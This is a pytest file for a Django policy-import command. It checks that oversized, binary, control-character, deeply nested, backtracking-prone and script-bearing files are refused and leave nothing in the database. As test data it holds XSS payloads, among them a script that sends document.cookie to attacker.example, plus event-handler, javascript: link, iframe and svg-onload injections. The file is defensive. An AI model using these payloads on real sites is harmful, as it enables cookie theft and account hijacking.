"""`manage.py import_policy` with a malicious file: huge, binary, nested beyond any policy, or carrying
script is refused with its reasons and nothing is written; harmless markup stays inert text."""

from __future__ import annotations

import time
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse

from policies.importer import parse_document
from policies.importer.source import MAX_BYTES, MAX_LINE
from policies.models import Policy, PolicyVersion

SEED = Path(__file__).resolve().parents[2] / "policies" / "fixtures" / "politique-10974-medias-sociaux.txt"


@pytest.fixture
def seed() -> str:
    return SEED.read_text(encoding="utf-8-sig")


def _import(tmp_path, data: bytes | str) -> str:
    path = tmp_path / "politique.txt"
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    out = StringIO()
    call_command("import_policy", str(path), stdout=out)
    return out.getvalue()


def _refused(tmp_path, data, *fragments: str) -> None:
    with pytest.raises(CommandError) as error:
        _import(tmp_path, data)
    message = str(error.value)
    for fragment in fragments:
        assert fragment in message, message
    assert not Policy.objects.exists() and not PolicyVersion.objects.exists()


def _with_body(seed: str, extra: str) -> str:
    """The seed with `extra` added at the end of its first section's text."""
    marker = "**2."
    head, _sep, tail = seed.partition(marker)
    return head + extra + "\n\n" + marker + tail


@pytest.mark.django_db
def test_a_huge_file_is_refused_before_reading(tmp_path, seed):
    _refused(tmp_path, seed + ("Texte de remplissage. " * 100 + "\n") * (MAX_BYTES // 2000), "Ko", "au plus")


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20, "binaire"),
        (b"%PDF-1.7\n" + bytes(range(256)) * 20, "binaire"),
        ("OBJET : X\tPOLITIQUE N° 1\n".encode("latin-1") + "Émise le : é".encode("latin-1"), "UTF-8"),
        (b"OBJET : X\x07\x08\x1b[31m\n", "contrôle"),
    ],
    ids=["png", "pdf", "latin-1", "control-characters"],
)
def test_a_binary_file_is_refused(tmp_path, data, reason):
    _refused(tmp_path, data, "Document refusé", reason)


@pytest.mark.django_db
def test_absurdly_long_lines_are_refused(tmp_path, seed):
    _refused(tmp_path, _with_body(seed, "a" * (MAX_LINE + 1)), f"plus de {MAX_LINE} caractères")


@pytest.mark.django_db
def test_numbering_nested_beyond_any_policy_is_refused(tmp_path, seed):
    deep = "\n\n".join(f"**1.{'.'.join(['1'] * depth)}. Niveau {depth}**\n\nTexte." for depth in range(1, 40))
    _refused(tmp_path, _with_body(seed, deep), "niveaux de numérotation")


@pytest.mark.django_db
def test_thousands_of_sections_are_refused(tmp_path, seed):
    many = "\n".join(f"**{n % 90 + 1}. Titre {n}**" for n in range(600))
    _refused(tmp_path, _with_body(seed, many), "sections")


@pytest.mark.django_db
@pytest.mark.parametrize(
    "active",
    [
        "<script>fetch('https://attacker.example/?c=' + document.cookie)</script>",
        '<img src="x" onerror="alert(1)">',
        '<a href="javascript:alert(1)">cliquez</a>',
        "<iframe src=https://attacker.example></iframe>",
        "<svg/onload=alert(1)>",
    ],
    ids=["script", "event-handler", "javascript-link", "iframe", "svg"],
)
def test_active_content_is_refused(tmp_path, seed, active):
    _refused(tmp_path, _with_body(seed, f"Voir {active} ici."), "Contenu actif refusé", "ligne")


@pytest.mark.django_db
def test_harmless_markup_is_imported_as_inert_text(tmp_path, seed, org, login):
    _import(tmp_path, _with_body(seed, 'Un <u>mot</u> et <a href="https://example.org">un lien</a>.'))
    version = PolicyVersion.objects.get()
    page = login(org.user("diane")).get(
        reverse("policies:version", args=[version.policy.number, version.pk])
    ).content.decode()
    assert "un lien" in page
    assert '<a href="https://example.org">' not in page
    assert "&lt;a href=" in page


def test_a_file_built_to_make_the_parser_backtrack_is_read_in_linear_time(seed):
    header = seed.partition("**")[0]
    hostile = header + "**1. A**\n" + "\n".join(["<b" * (MAX_LINE // 2 - 1)] * 40) + "\n"
    hostile += ("**OBJET : " + " " * 3000 + "POLITIQUE\n") * 10 + ("OBJET :" + " \n" * 2000 + "zz\n") * 5
    assert len(hostile) < MAX_BYTES
    started = time.monotonic()
    doc = parse_document(hostile)
    assert time.monotonic() - started < 10  # quadratic patterns took minutes on this file
    assert doc.sections
